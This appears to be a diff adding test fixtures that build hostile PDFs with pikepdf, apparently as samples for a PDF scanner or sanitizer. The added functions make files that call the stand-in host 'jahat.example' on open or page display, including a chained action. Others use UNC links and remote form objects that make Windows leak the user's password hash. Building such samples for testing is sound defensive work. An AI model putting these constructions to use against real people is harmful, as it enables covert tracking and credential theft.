@@ -254,6 +254,52 @@ def hiding_pdf() -> pikepdf.Pdf:
     return pdf
 
 
+def calling_pdf() -> pikepdf.Pdf:
+    """Opens an address as soon as it is opened itself."""
+    pdf = sample_files.new_pdf()
+    pdf.Root.OpenAction = Dictionary(S=Name.URI, URI=String("https://jahat.example/lacak"))
+    return pdf
+
+
+def chained_pdf() -> pikepdf.Pdf:
+    """The same behind a harmless first step."""
+    pdf = calling_pdf()
+    pdf.Root.OpenAction = Dictionary(S=Name.GoTo, D=String("awal"), Next=pdf.Root.OpenAction)
+    return pdf
+
+
+def turning_pdf() -> pikepdf.Pdf:
+    """Opens an address when its page is shown."""
+    pdf = sample_files.new_pdf()
+    visit = Dictionary(S=Name.URI, URI=String("https://jahat.example/lacak"))
+    pdf.pages[0].obj.AA = Dictionary(O=visit)
+    return pdf
+
+
+def luring_pdf() -> pikepdf.Pdf:
+    """A link to a file on a stranger's computer: Windows would greet it with the own password."""
+    pdf = sample_files.new_pdf()
+    away = Dictionary(S=Name.GoToR, F=String("\\\\jahat.example\\x.pdf"), D=Array([0, Name.Fit]))
+    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 595, 842]), A=away)
+    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(link)])
+    return pdf
+
+
+def borrowing_pdf() -> pikepdf.Pdf:
+    """What is drawn lies in a file on a stranger's computer."""
+    pdf = sample_files.new_pdf()
+    drawing = pikepdf.Stream(pdf, b"")
+    drawing.stream_dict = Dictionary(
+        Type=Name.XObject,
+        Subtype=Name.Form,
+        BBox=Array([0, 0, 9, 9]),
+        F=String("\\\\jahat.example\\isi"),
+        FFilter=Name.FlateDecode,
+    )
+    pdf.pages[0].obj.Resources.XObject = Dictionary(Pinjam=pdf.make_indirect(drawing))
+    return pdf
+
+
 def form_pdf() -> pikepdf.Pdf:
     """An XFA form: a program in XML."""
     pdf = sample_files.new_pdf()
